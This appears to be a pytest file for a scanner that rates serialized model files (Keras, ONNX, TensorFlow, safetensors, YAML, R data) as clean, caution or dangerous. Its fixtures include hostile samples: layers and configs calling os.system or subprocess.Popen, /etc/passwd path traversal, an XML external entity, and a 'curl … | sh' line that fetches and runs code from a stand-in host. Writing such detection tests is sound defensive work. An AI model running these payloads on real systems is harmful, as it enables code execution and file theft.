"""Formats beside pickle: Keras, graphs, weights' structure, foreign files."""

from __future__ import annotations

import base64
import gzip
import json
import struct

import pytest

from tests.build.pickles import command
from tests.build.releases import safetensors_bytes
from tests.build.zips import zipped


def keras(*layers: object) -> bytes:
    config = {"module": "keras", "class_name": "Sequential", "config": {"layers": list(layers)}}
    return zipped({"metadata.json": b"{}", "config.json": json.dumps(config).encode()})


def layer(name: str, module: str = "keras.layers", **config: object) -> dict[str, object]:
    return {"module": module, "class_name": name, "config": {"name": "x", **config}, "registered_name": None}


DENSE = layer("Dense", units=4)
HOSTILE = {
    "lambda": layer(
        "Lambda", function={"class_name": "__lambda__", "config": {"code": base64.b64encode(b"x").decode()}}
    ),
    "a module outside keras": layer("Popen", "subprocess", args=["echo"]),
    "a function outside keras": {"module": "builtins", "class_name": "function", "config": "exec"},
    "nested deep": layer("Bidirectional", layer=layer("TimeDistributed", layer=layer("system", "os"))),
    "get_file": {"module": "keras.utils", "class_name": "function", "config": "get_file"},
    "a vocabulary by path": layer("StringLookup", vocabulary="/etc/passwd"),
    "torch module": layer("TorchModuleWrapper", module="AAAA"),
}


@pytest.mark.parametrize("how", HOSTILE)
def test_keras_layers_that_carry_or_reach_code(look, how):
    assert look(keras(DENSE, HOSTILE[how]), "m.keras").level == "dangerous"
    text = json.dumps({"class_name": "Sequential", "config": {"layers": [DENSE, HOSTILE[how]]}})
    assert look(text, "model.json").level == "dangerous"
    hdf5 = b"\x89HDF\r\n\x1a\n\x00" + bytes(2000) + text.encode() + bytes(500)
    assert look(hdf5, "m.h5").level == "dangerous"


def test_keys_whose_letters_are_numbers_hide_nothing(look):
    text = json.dumps({"class_name": "Sequential", "config": {"layers": [HOSTILE["a module outside keras"]]}})
    assert look(text.replace("class_name", "\\u0063lass_name"), "model.json").level == "dangerous"


def test_keras_that_is_only_layers(look):
    assert look(keras(DENSE, layer("StringLookup", vocabulary=["a", "b"])), "m.keras").level == "clean"
    found = look(keras(layer("Mine", "my_package.layers")), "m.keras")
    assert found.level == "caution"


def field(number: int, data: bytes) -> bytes:
    return bytes([number << 3 & 0x7F | 2 | (0x80 if number > 15 else 0)]) + (bytes([number >> 4]) if number > 15 else b"") + size(len(data)) + data  # fmt: skip


def size(length: int) -> bytes:
    out = b""
    while length > 127:
        out += bytes([length & 127 | 128])
        length >>= 7
    return out + bytes([length])


def onnx(nodes: bytes, tensors: bytes = b"") -> bytes:
    return b"\x08\x08" + field(2, b"pytorch") + field(7, nodes + field(2, b"g") + tensors)


def node(operator: str, domain: str = "") -> bytes:
    return field(1, field(4, operator.encode()) + (field(7, domain.encode()) if domain else b""))


def tensor(location: str) -> bytes:
    pair = field(1, b"location") + field(2, location.encode())
    return field(5, b"\x08\x01\x10\x01" + field(8, b"w") + field(13, pair))


@pytest.mark.parametrize(
    ("made", "level"),
    [
        (onnx(node("Relu")), "clean"),
        (onnx(node("FusedMatMul", "com.microsoft")), "clean"),
        (onnx(node("Relu"), tensor("model.onnx.data")), "clean"),
        (onnx(node("Relu"), tensor("../../etc/passwd")), "dangerous"),
        (onnx(node("Relu"), tensor("/etc/passwd")), "dangerous"),
        (onnx(node("Relu"), tensor("a/../../x")), "dangerous"),
        (onnx(node("PyOp", "ai.onnx.contrib")), "dangerous"),
        (onnx(node("Mine", "com.mine")), "caution"),
        (onnx(field(1, field(4, b"If") + field(5, field(6, node("PyOp", "x"))))), "dangerous"),
    ],
)
def test_onnx(look, made, level):
    assert look(made, "m.onnx").level == level


def saved(*operators: str, inside: tuple[str, ...] = ()) -> bytes:
    def nodes(names: tuple[str, ...], number: int) -> bytes:
        return b"".join(field(number, field(1, b"n") + field(2, name.encode())) for name in names)

    graph = nodes(operators, 1) + field(2, field(1, nodes(inside, 3)))
    return b"\x08\x01" + field(2, field(1, field(4, b"serve")) + field(2, graph))


@pytest.mark.parametrize(
    ("made", "level"),
    [
        (saved("Placeholder", "MatMul", "SaveV2", "RestoreV2"), "clean"),
        (saved("Placeholder", "ReadFile"), "dangerous"),
        (saved("Placeholder", inside=("WriteFile",)), "dangerous"),
        (saved("PyFunc"), "dangerous"),
        (saved("Placeholder", "PrintV2"), "caution"),
    ],
)
def test_tensorflow(look, made, level):
    assert look(made, "saved_model.pb").level == level


def test_bytes_that_no_tensor_covers_are_looked_at(look):
    good = safetensors_bytes({"a": ("F32", [4])})
    assert look(good, "m.safetensors").level == "clean"
    assert look(good + command(), "m.safetensors").level == "dangerous"
    evil = command()
    header = json.dumps(
        {"a": {"dtype": "U8", "shape": [4], "data_offsets": [len(evil), len(evil) + 4]}}
    ).encode()
    hole = struct.pack("<Q", len(header)) + header + evil + bytes(4)
    assert look(hole, "m.safetensors").level == "dangerous"


@pytest.mark.parametrize("cut", [4, 12, 60])
def test_headers_that_lie_are_named_and_never_clean(look, cut):
    found = look(safetensors_bytes({"a": ("F32", [4])})[:cut], "m.safetensors")
    assert (found.level, len(found.gaps) > 0) == ("unknown", True)


def test_programs_by_their_bytes(look):
    elf = b"\x7fELF\x02\x01\x01" + bytes(64)
    assert look(elf, "libx.so").level == "caution"
    assert look(elf, "model.bin").level == "dangerous"
    assert look(elf, "data.safetensors").level == "dangerous"
    assert look(b"#!/bin/sh\necho hello\n", "run.sh").level == "clean"
    assert look(b"#!/bin/sh\ncurl http://host.invalid/x | sh\n", "run.sh").level == "caution"


@pytest.mark.parametrize(
    ("text", "level"),
    [
        ('<PMML version="4.4"><Header/></PMML>', "clean"),
        ('<!DOCTYPE P [<!ENTITY x SYSTEM "x.txt">]><P>&x;</P>', "dangerous"),
        ('<!DOCTYPE P [<!ENTITY a "b">]><P>&a;</P>', "caution"),
        ("<P><script>1</script></P>", "caution"),
        ("<!DOCTYPE html><html><script>1</script></html>", "clean"),
    ],
)
def test_markup(look, text, level):
    assert look(text, "m.pmml").level == level


def r_data(*items: bytes) -> bytes:
    return gzip.compress(b"X\n" + struct.pack(">iii", 2, 0x040300, 0x020300) + b"".join(items))


def test_r_data(look):
    number = struct.pack(">ii", 13, 2) + bytes(8)
    symbol = struct.pack(">iii", 1, 9, 1) + b"x"
    assert look(r_data(number), "m.rds").level == "clean"
    promise = struct.pack(">i", 5) + symbol + struct.pack(">i", 254)
    assert look(r_data(promise), "m.rds").level == "dangerous"
    call = struct.pack(">i", 6) + symbol + struct.pack(">i", 254)
    assert look(r_data(call), "m.rds").level == "caution"
    assert look(r_data(struct.pack(">ii", 13, 2**30)), "m.rds").level == "unknown"


@pytest.mark.parametrize(
    ("text", "level"),
    [
        ("model:\n  _target_: torch.nn.Linear\n", "clean"),
        ("model:\n  _target_: os.system\n", "dangerous"),
        ("a:\n - b: {_target_: subprocess.Popen}\n", "dangerous"),
        ("x: !!python/object/apply:os.system [id]\n", "dangerous"),
        ("model:\n  _target_: my_company.models.Net\n", "caution"),
        ("target: production\n", "clean"),
    ],
)
def test_targets_in_yaml(look, text, level):
    assert look(text, "config.yaml").level == level


def test_skops(look):
    def schema(module: str, name: str) -> bytes:
        return zipped({"schema.json": json.dumps({"__class__": name, "__module__": module, "__loader__": "ObjectNode"}).encode()})  # fmt: skip

    assert look(schema("sklearn.svm._classes", "SVC"), "m.skops").level == "clean"
    assert look(schema("os", "system"), "m.skops").level == "dangerous"
